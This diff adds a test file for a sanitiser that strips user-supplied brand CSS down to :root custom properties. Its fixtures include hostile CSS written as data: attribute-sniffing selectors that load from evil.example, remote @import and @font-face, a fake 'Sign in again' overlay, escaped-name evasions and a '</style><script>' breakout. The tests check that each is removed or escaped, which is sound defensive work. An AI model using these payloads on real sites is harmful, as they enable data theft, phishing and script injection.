@@ -1,0 +1,105 @@
+import { describe, expect, it } from 'vitest';
+import { BRAND_CSS } from '../../../examples/platform/brand.js';
+import { CssChecker } from '../../../src/adapters/css/css-checker.js';
+
+const checker = new CssChecker(new Set());
+const brand = async (css: string): Promise<string> => (await checker.brand(css)).css;
+
+describe('a brand that is checked', () => {
+  it('keeps all of an ordinary one', async () => {
+    const { css, leftOut } = await checker.brand(BRAND_CSS);
+    expect(leftOut).toEqual([]);
+    expect(css.replaceAll(/[\s;]/g, '')).toBe(BRAND_CSS.replaceAll(/[\s;]/g, ''));
+  });
+
+  it.each([
+    [':root{--brand:#123}', ':root{--brand:#123}'],
+    [':root { --font : "Inter", sans-serif ; --empty: ; }', ':root{--font:"Inter", sans-serif;--empty:}'],
+    [':root, :host { --a: 1px !important }', ':root{--a:1px !important}'],
+    [
+      'html{--a:oklch(from var(--b) l c h)} :root:root{--a:calc(1px + 2px)}',
+      'html{--a:oklch(from var(--b) l c h)}\n:root:root{--a:calc(1px + 2px)}',
+    ],
+    [':root[data-theme="dark"],html.dark{--a:1}', ':root[data-theme="dark"],html.dark{--a:1}'],
+    ['.dark{--a:1}', ':where(:root).dark{--a:1}'],
+    ['@media (prefers-color-scheme: dark){:root{--a:1}}', '@media (prefers-color-scheme: dark){:root{--a:1}}'],
+    [
+      '@media screen and (prefers-contrast: more), not all and (prefers-reduced-motion) { :root { --a: 1 } }',
+      '@media screen and (prefers-contrast: more), not all and (prefers-reduced-motion){:root{--a:1}}',
+    ],
+    [
+      ':root{--a:1;@media (prefers-color-scheme:dark){--a:2}}',
+      ':root{--a:1;@media (prefers-color-scheme:dark){--a:2}}',
+    ],
+    ['<!-- :root{--a:1} -->', ':root{--a:1}'],
+    ['@charset "utf-8";/* c */:root{/* d */--a/**/:/* e */1}', ':root{--a:1}'],
+    ['\\:root{}:r\\6fot{--a:\\62}', ':root{--a:b}'],
+    [':root{--a:(1', ':root{}'],
+    [':root{--a:1', ':root{--a:1}'],
+  ])('of %s sends %s', async (css, sent) => {
+    expect(await brand(css)).toBe(sent);
+  });
+
+  it.each([
+    ['reads an attribute', 'input[value^="a"]{background:url(//evil.example/a)}'],
+    ['reads an attribute of the root', ':root[data-user^="a"]{--a:1}'],
+    ['reads another attribute of the root', ':root[data-user="ada"]{--a:1}'],
+    ['draws over the page', 'body::before{content:"Sign in again";position:fixed;inset:0}'],
+    ['draws over the page from the root', ':root::before{content:"x"}'],
+    ['hides the page', 'html:has(#pay){--a:1}'],
+    ['styles a class', '.price{--a:1}'],
+    ['imports', '@import "//evil.example/x.css";'],
+    ['imports by an escaped name', '@\\69mport url(//evil.example/x.css);'],
+    ['brings fonts', '@font-face{font-family:x;src:url(//evil.example/x)}'],
+    ['asks for a width', '@media (min-width:1px){:root{--a:1}}'],
+    ['asks for a width behind a preference', '@media (prefers-color-scheme:dark) or (width>1px){:root{--a:1}}'],
+    ['has layers', '@layer x{:root{--a:1}}'],
+    ['animates', '@keyframes x{to{--a:1}}'],
+    ['nests a rule in a value that is none', 'x{:root{--a:1}}'],
+  ])('leaves out a rule that %s', async (_what, css) => {
+    const { css: sent, leftOut } = await checker.brand(`${css}\n:root{--b:1}`);
+    expect(sent).toBe(':root{--b:1}');
+    expect(leftOut).toEqual([expect.stringMatching(/^1 (?:rules|at-rules)/)]);
+  });
+
+  it.each([
+    'color:red',
+    'background:url(x)',
+    '--a:url(//evil.example/x)',
+    '--a:URL("x")',
+    '--a:u\\72l(x)',
+    '--a:\\75 rl("x")',
+    '--a:image-set("//evil.example/x" 1x)',
+    '--a:-webkit-image-set(url(x) 1x)',
+    '--a:src("x")',
+    '--a:var(--b,url(x))',
+    '--a:attr(data-user)',
+    '--a:</style><script>',
+    '--a:1)',
+    '--a:"x\n',
+    '--a:url(a b)',
+    '--a:{color:red}',
+    '--:1',
+    '&:hover{--a:1}',
+    'body &{--a:1}',
+    '@import "x"',
+  ])('leaves out of the root: %s', async (declaration) => {
+    expect(await brand(`:root{--b:1;${declaration};--c:2}`)).toMatch(/^:root\{--b:1;--c:2\}$/);
+  });
+
+  it('writes a text that ends no style element', async () => {
+    expect(await brand(':root{--a:"</style><script>alert(1)</script>"}')).toBe(
+      String.raw`:root{--a:"\3c /style>\3c script>alert(1)\3c /script>"}`,
+    );
+  });
+
+  it('names what it left out, without a word of it', async () => {
+    const { leftOut } = await checker.brand('a{b:c}@import "d";:root{e:f;--g:url(h)}');
+    expect(leftOut).toEqual([
+      '1 rules for something else than :root',
+      '1 declarations of something else than custom properties',
+      '1 values with an address, a block or an error',
+      '1 at-rules',
+    ]);
+  });
+});
